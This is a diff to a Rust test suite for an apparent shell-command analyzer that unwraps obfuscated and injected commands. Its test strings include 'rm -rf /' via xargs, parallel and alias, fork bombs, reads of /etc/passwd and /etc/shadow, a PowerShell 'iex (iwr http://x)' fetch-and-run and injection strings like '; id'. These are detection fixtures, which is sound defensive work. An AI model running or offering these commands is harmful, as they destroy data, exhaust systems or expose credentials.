@@ -91,7 +91,7 @@ fn honest_lines_are_what_they_are() {
         ("time make -j4", "time·make·-j4 ; [>] make·-j4"),
         ("! grep -q x f", "grep·-q·x·f"),
         ("find . -type f -exec grep -l x {} +", "find·.·-type·f·-exec·grep·-l·x·{}·+ ; [>] grep·-l·x·{}"),
-        ("a=(x y z); echo ${a[1]} ${#a[@]}", "a=x y z ; echo·y·$#a[@]"),
+        ("a=(x y z); echo ${a[1]} ${#a[@]}", "a=x\ny\nz ; echo·y·$#a[@]"),
         ("printf '%s\\n' \"a\" > out.txt", "printf·%s\\n·a·Write:out.txt"),
         ("echo it\\'s && ls", "echo·it's ; ls"),
         ("git stash && git checkout -b f/x || exit 1", "git·stash ; git·checkout·-b·f/x ; exit·1"),
@@ -152,7 +152,10 @@ fn what_hides_a_word_is_undone() {
         ("IFS=,;`cat<<<cat,/etc/passwd`", "IFS=, ; cat·/etc/passwd ; [$] cat·HereString:cat,/etc/passwd"),
         ("for x in id; do $x; done", "for·id ; id"),
         ("set -- cat f; $1 $2", "set·--·cat·f ; cat·f"),
-        ("a=(cat /etc/passwd); \"${a[@]}\"", "a=cat /etc/passwd ; cat·/etc/passwd"),
+        ("a=(cat /etc/passwd); \"${a[@]}\"", "a=cat\n/etc/passwd ; cat·/etc/passwd"),
+        ("a=('b c' d); x \"${a[@]}\" ${a[0]}", "a=b c\nd ; x·b c·d·b·c"),
+        ("c${z:+x}at f", "cat·f"),
+        ("rm ${HOME:-x}", "rm·$HOME"),
         ("export p=/etc/shadow; cat $p", "p=/etc/shadow·export·p=/etc/shadow ; cat·/etc/shadow"),
         ("{l,-lh,}s", "ls·-lhs·s"),
     ]);
@@ -192,6 +195,14 @@ fn wrappers_are_opened() {
         ("echo / | xargs rm -rf", "echo·/ | xargs·rm·-rf ; [>] rm·-rf·/"),
         ("echo / | xargs -I% sh -c 'rm %'", "echo·/ | xargs·-I%·sh·-c·rm % ; [>] sh·-c·rm / ; [>] rm·/"),
         ("parallel rm -rf {} ::: /", "parallel·rm·-rf·{}·:::·/ ; [>] rm·-rf·/"),
+        (
+            "echo 'rm -rf /' | parallel bash -c {}",
+            "echo·rm -rf / | parallel·bash·-c·{} ; [>] bash·-c·rm -rf / ; [>] rm·-rf·/",
+        ),
+        ("parallel 'cat {} | sh' ::: f", "parallel·cat {} | sh·:::·f ; [>] cat·f | [>] sh"),
+        ("echo ok | xargs -a f rm", "echo·ok | xargs·-a·f·rm ; [>] rm"),
+        ("alias ls='rm -rf /'", "ls=rm -rf /·alias·ls=rm -rf / ; [>] rm·-rf·/"),
+        ("${SHELL} -c id", "$SHELL·-c·id ; [>] id"),
         ("parallel ::: 'id -u'", "parallel·:::·id -u ; [>] id·-u"),
         ("command -p exec id", "command·-p·exec·id ; [>] exec·id ; [>] id"),
         ("echo 'rm -rf /' | sh", "echo·rm -rf / | sh ; [<<] rm·-rf·/"),
@@ -220,6 +231,10 @@ fn substitutions_and_groups() {
         ("f() { id; }; f", "[f] id ; f"),
         ("function f { id; }", "[f] id"),
         (":(){ :|:& };:", "[f] : & | [f] : & ; :"),
+        (":(){:|:&};:", "[f] : & | [f] : & ; :"),
+        ("f(){ f() & f(); }; f", "[f] f & ; [f] f ; f"),
+        ("f()\n{\n id\n}", "[f] id"),
+        ("f () if x; then y; fi", "[f] x ; [f] y"),
         ("() { :;}; /bin/id", ": ; /bin/id"),
         ("x=$(id) y=`ls`", "x=$()·y=$() ; [$] id ; [$] ls"),
         ("cat <<EOF\n$(id)\nEOF", "cat·HereDoc:$()\n ; [$] id"),
@@ -333,6 +348,9 @@ fn dialects_are_guessed() {
         ("type %SYSTEMROOT%\\repair\\SAM", Dialect::Cmd),
         ("echo 100% sure", Dialect::Posix),
         ("date +%Y%m%d", Dialect::Posix),
+        ("& FOR /F \"tokens=1\" %A IN (\"x\") DO @echo y", Dialect::Cmd),
+        (";iex (iwr http://x)", Dialect::PowerShell),
+        ("for x in *; do ls; done", Dialect::Posix),
         ("", Dialect::Posix),
     ] {
         assert_eq!(Dialect::guess(text.as_bytes()), dialect, "{text}");
@@ -566,7 +584,7 @@ mod queries {
         check(
             &json!({"run": {"injected": true, "program": ["recon", "reader", "network", "shell"]}}),
             &["; id", "x && cat /etc/passwd", "| whoami", "$(id)", "`id`", "x\nid", "a || curl x", "x;{id,-u}", "x&id"],
-            &["id", "cat", "main", "feature/x-y", "fix; done", "a & b"],
+            &["id", "cat", "main", "feature/x-y", "fix; done", "a & b", "Go to store.\nAt the store, shop."],
         );
         check(&json!({"substitution": true}), &["$(id)", "a`id`"], &["$HOME", "$((1+2))", "a"]);
         check(&json!({"chained": true}), &["a; b", "a\nb", "a | b"], &["a", "a;", "sh -c 'a; b'"]);
@@ -576,7 +594,13 @@ mod queries {
     fn shapes() {
         check(
             &json!({"recursion": true}),
-            &[":(){ :|:& };:", "f(){ f|f& };f", "bomb() { bomb | bomb & }; bomb"],
+            &[
+                ":(){ :|:& };:",
+                ":(){:|:&};:",
+                "f(){ f|f& };f",
+                "f(){ f() & f(); }; f",
+                "bomb() { bomb | bomb & }; bomb",
+            ],
             &["f() { g | h; }; f", "f() { f; }"],
         );
         check(
